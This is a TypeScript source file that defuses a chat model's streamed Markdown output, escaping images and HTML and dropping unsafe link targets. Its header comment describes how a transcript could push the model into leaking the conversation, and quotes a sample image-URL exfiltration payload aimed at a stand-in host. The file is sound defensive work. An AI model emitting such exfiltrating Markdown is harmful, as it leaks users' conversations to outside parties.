// The chat model's answer, streamed into @compactor's reply. It is Markdown and should read as
// such (code blocks, lists, emphasis, links to web pages), but the model read the conversation,
// and a transcript can ask it to write what a reply must not hold: an image whose address
// carries the conversation out (`![i](https://evil/x.png?q=…)`), raw HTML (`<img src=x>`), or a
// link to a command or a file. So, outside code (fenced blocks and inline code spans, which
// render as text already), images are shown as their text, HTML as text, and a link whose
// target is not http(s) or mailto loses its target. Lines go out whole: a construct the model
// split across chunks is judged once its line is complete.

/** Link targets that may stay links. */
const SAFE_SCHEME = /^(?:https?:|mailto:)/i;
/** A fence opening or closing a code block: up to three spaces, then ``` or ~~~. */
const FENCE = /^ {0,3}(`{3,}|~{3,})/;

export class AnswerMarkdown {
  private pending = '';
  /** The fence of the code block the text is in (its characters), if any. */
  private fence: string | undefined;

  /** The complete lines `chunk` finishes, made safe; the rest waits for its line end. */
  push(chunk: string): string {
    this.pending += chunk;
    const cut = this.pending.lastIndexOf('\n');
    if (cut === -1) return '';
    const lines = this.pending.slice(0, cut + 1);
    this.pending = this.pending.slice(cut + 1);
    return lines
      .split('\n')
      .map((l, i, all) => (i === all.length - 1 ? l : this.line(l)))
      .join('\n');
  }

  /** What is left at the end of the answer. */
  end(): string {
    const rest = this.pending;
    this.pending = '';
    return rest ? this.line(rest) : '';
  }

  private line(line: string): string {
    const fence = FENCE.exec(line)?.[1];
    if (this.fence !== undefined) {
      if (fence && fence[0] === this.fence[0] && fence.length >= this.fence.length && line.trim() === fence) this.fence = undefined;
      return line;
    }
    if (fence) {
      this.fence = fence;
      return line;
    }
    return defuseLine(line);
  }
}

/** One line outside a code block, with its inline code spans left as they are. */
export function defuseLine(line: string): string {
  // A link reference definition to an unsafe target: "[ref]: command:…" loses its bracket.
  if (/^ {0,3}\[[^\]]+\]:/.test(line)) {
    const target = line.replace(/^ {0,3}\[[^\]]+\]:\s*<?/, '');
    if (/^[a-z][a-z0-9+.-]*:/i.test(target) && !SAFE_SCHEME.test(target)) return line.replace('[', '\\[');
  }
  let out = '';
  let i = 0;
  while (i < line.length) {
    const tick = line.indexOf('`', i);
    if (tick === -1) {
      out += defuseText(line.slice(i));
      break;
    }
    out += defuseText(line.slice(i, tick));
    const run = /^`+/.exec(line.slice(tick))![0];
    const close = findRun(line, tick + run.length, run.length);
    if (close === -1) {
      out += run;
      i = tick + run.length;
    } else {
      out += line.slice(tick, close + run.length);
      i = close + run.length;
    }
  }
  return out;
}

/** Where the next run of exactly `n` backticks starts, at or after `from`; -1 if none. */
function findRun(line: string, from: number, n: number): number {
  for (let i = line.indexOf('`', from); i !== -1; i = line.indexOf('`', i)) {
    let j = i;
    while (line[j] === '`') j++;
    if (j - i === n) return i;
    i = j;
  }
  return -1;
}

/** Text outside code: images as text, HTML as text, unsafe link targets dropped. */
function defuseText(text: string): string {
  return text
    .replace(/!\[/g, '!\\[')
    .replace(/<(?=[A-Za-z/!?])/g, '\\<')
    .replace(/\]\(\s*<?(?=[a-z][a-z0-9+.-]*:)(?!https?:|mailto:)/gi, (m) => m.replace('](', ']\\('));
}
